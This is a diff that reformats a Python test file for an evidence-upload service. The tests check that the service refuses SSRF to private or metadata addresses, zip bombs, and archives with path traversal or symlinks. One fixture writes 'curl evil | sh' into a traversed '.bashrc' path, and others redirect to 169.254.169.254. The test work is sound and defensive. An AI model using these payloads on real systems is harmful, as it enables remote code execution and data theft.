@@ -18,8 +18,9 @@ def add(client, bundle, headers, body):
 
 
 def upload(client, bundle, headers, file_name, data, content_type="application/octet-stream"):
-    return client.post(f"/v1/evidence/bundles/{bundle['id']}/files", headers=headers,
-                       files={"file": (file_name, data, content_type)})
+    return client.post(
+        f"/v1/evidence/bundles/{bundle['id']}/files", headers=headers, files={"file": (file_name, data, content_type)}
+    )
 
 
 @pytest.fixture
@@ -51,22 +52,29 @@ def test_the_production_fetcher_refuses_plain_http_and_private_addresses(client,
         refused(add(client, bundle, earner, {"kind": "url", "url": url}), 422, code)
 
 
-def test_a_name_that_resolves_to_a_private_address_is_refused(client, earner, bundle, refused, settings, use_fetchers,
-                                                               http_server):
+def test_a_name_that_resolves_to_a_private_address_is_refused(
+    client, earner, bundle, refused, settings, use_fetchers, http_server
+):
     from service.evidence.intake import EvidenceFetchers
     from service.evidence.repositories import RepositoryFetcher
     from service.net import SafeFetcher
     from tests.net.local_server import fixed_resolver
 
     resolver = fixed_resolver({"intranet.test": ["192.168.1.10"], "local.test": ["127.0.0.1"]})
-    use_fetchers(EvidenceFetchers(urls=SafeFetcher(resolver=resolver), repositories=RepositoryFetcher(resolver=resolver)))
+    use_fetchers(
+        EvidenceFetchers(urls=SafeFetcher(resolver=resolver), repositories=RepositoryFetcher(resolver=resolver))
+    )
     refused(add(client, bundle, earner, {"kind": "url", "url": "https://intranet.test/hr"}), 422, "url_blocked_address")
-    refused(add(client, bundle, earner, {"kind": "url", "url": f"https://local.test:{http_server.port}/"}), 422,
-            "url_blocked_address")
+    refused(
+        add(client, bundle, earner, {"kind": "url", "url": f"https://local.test:{http_server.port}/"}),
+        422,
+        "url_blocked_address",
+    )
     assert http_server.requests == []
 
 
 # --- URLs against a local server (the test fetcher may reach 127.0.0.1) ------------------------
+
 
 def test_a_url_whose_body_is_too_large_is_refused(client, earner, bundle, refused, http_server, local_fetchers):
     http_server.routes["/huge"] = endless(http_server)
@@ -78,18 +86,21 @@ def test_a_url_that_is_too_slow_is_refused(client, earner, bundle, refused, http
     refused(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/slow")}), 422, "url_timeout")
 
 
-def test_a_url_that_redirects_too_often_or_to_a_private_address_is_refused(client, earner, bundle, refused,
-                                                                          http_server, local_fetchers):
+def test_a_url_that_redirects_too_often_or_to_a_private_address_is_refused(
+    client, earner, bundle, refused, http_server, local_fetchers
+):
     for n in range(6):
         http_server.routes[f"/r{n}"] = redirect(f"/r{n + 1}")
     refused(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/r0")}), 422, "url_too_many_redirects")
     http_server.routes["/to-metadata"] = redirect("http://169.254.169.254/latest/meta-data/")
-    refused(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/to-metadata")}), 422,
-            "url_blocked_address")
+    refused(
+        add(client, bundle, earner, {"kind": "url", "url": http_server.url("/to-metadata")}), 422, "url_blocked_address"
+    )
 
 
-def test_a_url_that_answers_an_error_or_an_executable_is_refused(client, earner, bundle, refused, http_server,
-                                                                 local_fetchers):
+def test_a_url_that_answers_an_error_or_an_executable_is_refused(
+    client, earner, bundle, refused, http_server, local_fetchers
+):
     http_server.routes["/gone"] = respond(404, b"not here")
     refused(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/gone")}), 422, "url_http_error")
     http_server.routes["/tool"] = respond(200, b"\x7fELF\x02\x01\x01" + b"\0" * 100, {"Content-Type": "text/plain"})
@@ -97,6 +108,7 @@ def test_a_url_that_answers_an_error_or_an_executable_is_refused(client, earner,
 
 
 # --- repositories --------------------------------------------------------------------------------
+
 
 @pytest.fixture
 def published(tmp_path, git_server):
@@ -122,45 +134,62 @@ def test_repository_urls_that_are_not_plain_public_https_are_refused(client, ear
         refused(add(client, bundle, earner, {"kind": "repository", "url": url, "commit": "a" * 40}), 422, code)
 
 
-def test_a_repository_host_that_resolves_privately_is_refused(client, earner, bundle, refused, settings, use_fetchers,
-                                                              git_server, published):
+def test_a_repository_host_that_resolves_privately_is_refused(
+    client, earner, bundle, refused, settings, use_fetchers, git_server, published
+):
     from service.evidence.intake import EvidenceFetchers
     from service.evidence.repositories import RepositoryFetcher
     from service.net import SafeFetcher
     from tests.net.local_server import fixed_resolver
 
     resolver = fixed_resolver({"git.test": ["127.0.0.1"]})  # no allowance for loopback this time
-    use_fetchers(EvidenceFetchers(urls=SafeFetcher(resolver=resolver),
-                                  repositories=RepositoryFetcher(resolver=resolver, ca_file=git_server.ca_file)))
+    use_fetchers(
+        EvidenceFetchers(
+            urls=SafeFetcher(resolver=resolver),
+            repositories=RepositoryFetcher(resolver=resolver, ca_file=git_server.ca_file),
+        )
+    )
     url, commit = published
-    refused(add(client, bundle, earner, {"kind": "repository", "url": url, "commit": commit}), 422,
-            "repository_blocked_address")
+    refused(
+        add(client, bundle, earner, {"kind": "repository", "url": url, "commit": commit}),
+        422,
+        "repository_blocked_address",
+    )
     assert git_server.requests == []
 
 
 def test_an_unknown_commit_is_refused(client, earner, bundle, refused, local_fetchers, published):
     url, _commit = published
-    refused(add(client, bundle, earner, {"kind": "repository", "url": url, "commit": "f" * 40}), 422,
-            "repository_unknown_commit")
+    refused(
+        add(client, bundle, earner, {"kind": "repository", "url": url, "commit": "f" * 40}),
+        422,
+        "repository_unknown_commit",
+    )
 
 
 def test_a_repository_too_large_is_refused(client, earner, bundle, refused, tmp_path, git_server, local_fetchers):
     commits = make_repository(tmp_path / "big", [{"noise.bin": os.urandom(700 * KIB)}])
     url = git_server.publish(tmp_path / "big", "big")
-    refused(add(client, bundle, earner, {"kind": "repository", "url": url, "commit": commits[0]}), 422,
-            "repository_too_large")
+    refused(
+        add(client, bundle, earner, {"kind": "repository", "url": url, "commit": commits[0]}),
+        422,
+        "repository_too_large",
+    )
 
 
-def test_a_repository_that_takes_too_long_is_refused(client, earner, bundle, refused, settings, git_server,
-                                                    use_fetchers, published):
+def test_a_repository_that_takes_too_long_is_refused(
+    client, earner, bundle, refused, settings, git_server, use_fetchers, published
+):
     use_fetchers(make_local_fetchers(settings, ca_file=git_server.ca_file, timeout=1.0))
     git_server.stall = True
     url, commit = published
-    refused(add(client, bundle, earner, {"kind": "repository", "url": url, "commit": commit}), 422,
-            "repository_timeout")
+    refused(
+        add(client, bundle, earner, {"kind": "repository", "url": url, "commit": commit}), 422, "repository_timeout"
+    )
 
 
 # --- uploads ---------------------------------------------------------------------------------------
+
 
 def test_an_upload_over_the_item_limit_is_refused(client, earner, bundle, refused):
     refused(upload(client, bundle, earner, "big.txt", b"a" * (256 * KIB + 1)), 413, "evidence_file_too_large")
@@ -172,15 +201,19 @@ def test_an_upload_far_over_the_limit_is_stopped_at_the_door(client, earner, bun
 
 
 def test_a_text_over_the_item_limit_is_refused(client, earner, bundle, refused):
-    refused(add(client, bundle, earner, {"kind": "text", "text": "é" * (128 * KIB + 1)}), 413, "evidence_file_too_large")
+    refused(
+        add(client, bundle, earner, {"kind": "text", "text": "é" * (128 * KIB + 1)}), 413, "evidence_file_too_large"
+    )
 
 
 def test_more_items_than_a_bundle_holds_are_refused(client, earner, bundle, stored):
     for n in range(4):
         assert add(client, bundle, earner, {"kind": "text", "text": f"item {n}"}).status_code == 201
     before = stored.snapshot()
-    for response in (add(client, bundle, earner, {"kind": "text", "text": "one too many"}),
-                     upload(client, bundle, earner, "extra.txt", b"one too many")):
+    for response in (
+        add(client, bundle, earner, {"kind": "text", "text": "one too many"}),
+        upload(client, bundle, earner, "extra.txt", b"one too many"),
+    ):
         assert response.status_code == 409 and response.json()["error"] == "evidence_bundle_full"
     assert stored.snapshot() == before
 
@@ -201,12 +234,20 @@ UNSAFE_FILES = {
     "empty": ("empty.txt", b"", 422, "evidence_empty"),
     "zip-bomb": ("bomb.zip", zip_bomb(3 * MIB), 422, "archive_too_large"),
     "zip-bomb-ratio": ("ratio.zip", zip_bomb(int(1.5 * MIB)), 422, "archive_ratio"),
-    "path-traversal": ("evil.zip", make_zip({"../../home/ada/.bashrc": "curl evil | sh"}), 422,
-                       "archive_path_traversal"),
+    "path-traversal": (
+        "evil.zip",
+        make_zip({"../../home/ada/.bashrc": "curl evil | sh"}),
+        422,
+        "archive_path_traversal",
+    ),
     "absolute-path": ("abs.zip", make_zip({"/etc/cron.d/evil": "x"}), 422, "archive_absolute_path"),
     "symlink": ("link.zip", symlink_zip(), 422, "archive_symlink"),
-    "nested-twice": ("deep.zip", make_zip({"a.zip": make_zip({"b.zip": make_zip({"c.txt": "x"})})}), 422,
-                     "archive_nested"),
+    "nested-twice": (
+        "deep.zip",
+        make_zip({"a.zip": make_zip({"b.zip": make_zip({"c.txt": "x"})})}),
+        422,
+        "archive_nested",
+    ),
 }
 
 
@@ -237,6 +278,10 @@ def test_malformed_items_are_validation_errors(client, earner, bundle, refused):
 
 
 def test_an_upload_title_with_control_characters_is_a_validation_error(client, earner, bundle, refused):
-    response = client.post(f"/v1/evidence/bundles/{bundle['id']}/files", headers=earner,
-                           files={"file": ("a.txt", b"text", "text/plain")}, data={"name": "bad\x00name"})
+    response = client.post(
+        f"/v1/evidence/bundles/{bundle['id']}/files",
+        headers=earner,
+        files={"file": ("a.txt", b"text", "text/plain")},
+        data={"name": "bad\x00name"},
+    )
     refused(response, 422, "validation_error")
